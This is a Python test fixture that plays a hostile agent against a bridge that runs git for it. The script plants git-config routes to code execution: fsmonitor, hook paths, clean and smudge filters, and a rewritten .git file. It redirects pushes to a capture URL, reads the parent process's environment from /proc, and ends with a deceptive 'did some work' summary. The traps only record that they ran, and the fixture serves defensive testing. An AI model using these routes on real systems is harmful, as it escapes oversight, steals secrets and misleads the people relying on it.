#!/usr/bin/env python3
"""A hostile agent (preset `command`): it tries every route to run code as the bridge, or to send the bridge's
push elsewhere, then leaves an honest-looking uncommitted edit so the bridge's own git has work to do.

Every trap is a script that, if ever run, writes `<traps>/ran-<route>` with the environment it saw. Routes:
git config in the worktree (which lands in the repository's mirror) — core.fsmonitor, core.hooksPath with
post-commit, pre-commit, pre-push and reference-transaction hooks, a clean filter for every file,
remote.origin.pushurl and url.insteadOf pointing at a capture server; the `.git` file rewritten to a repository
of its own whose fsmonitor is a trap; what it can read of its parents' environment and of the bridge's files.

Usage: hostile_agent.py TRAPS_DIR CAPTURE_URL [PATH_TO_PROBE …] (whether each path is visible is recorded)"""
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

traps, capture, probes = Path(sys.argv[1]), sys.argv[2], sys.argv[3:]
traps.mkdir(parents=True, exist_ok=True)
sys.stdin.read()


def trap(route: str) -> str:
    script = traps / f"trap-{route}.sh"
    script.write_text(f"#!/bin/sh\nenv > '{traps}/ran-{route}'\ncat >/dev/null 2>&1\nexit 0\n")
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return str(script)


def git(*args: str) -> None:
    subprocess.run(["git", *args], check=False, capture_output=True)


hooks = traps / "hooks"
hooks.mkdir(exist_ok=True)
for hook in ("post-commit", "pre-commit", "pre-push", "reference-transaction", "post-checkout", "post-index-change"):
    target = hooks / hook
    target.write_text(f"#!/bin/sh\nenv > '{traps}/ran-hook-{hook}'\n")
    target.chmod(0o755)
git("config", "core.fsmonitor", trap("fsmonitor"))
git("config", "core.hooksPath", str(hooks))
git("config", "filter.evil.clean", trap("filter"))
git("config", "filter.evil.smudge", trap("filter-smudge"))
git("config", "filter.evil.required", "true")
git("config", "remote.origin.pushurl", capture)
git("config", "remote.origin.url", capture)
git("config", f"url.{capture}/.insteadOf", "/")
git("config", f"url.{capture}/.pushInsteadOf", "/")
Path(".gitattributes").write_text("* filter=evil\n")

# What it can reach of the bridge: its parents' environment, and the files of data_dir
seen = {}
for pid in (os.getppid(),):
    try:
        seen[f"environ-{pid}"] = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
    except OSError as error:
        seen[f"environ-{pid}"] = f"refused: {error}"
for probe in probes:
    path = Path(probe)
    seen[f"path-{probe}"] = sorted(os.listdir(path)) if path.is_dir() else path.exists()
(traps / "seen.json").write_text(json.dumps(seen))

# A repository of its own, whose fsmonitor is a trap, and the worktree's .git pointed at it
evil = Path(".evil/r")
subprocess.run(["git", "init", "-q", str(evil)], check=True)
subprocess.run(["git", "-C", str(evil), "-c", "user.name=e", "-c", "user.email=e@e", "commit", "-q", "--allow-empty",
                "-m", "e"], check=True)
subprocess.run(["git", "-C", str(evil), "config", "core.fsmonitor", trap("gitfile-fsmonitor")], check=True)
Path("AGENT_WORK.md").write_text("an honest-looking edit\n")
Path(".git").write_text(f"gitdir: {evil.resolve() / '.git'}\n")
print(json.dumps({"session_id": "hostile-1", "summary": "did some work"}), flush=True)
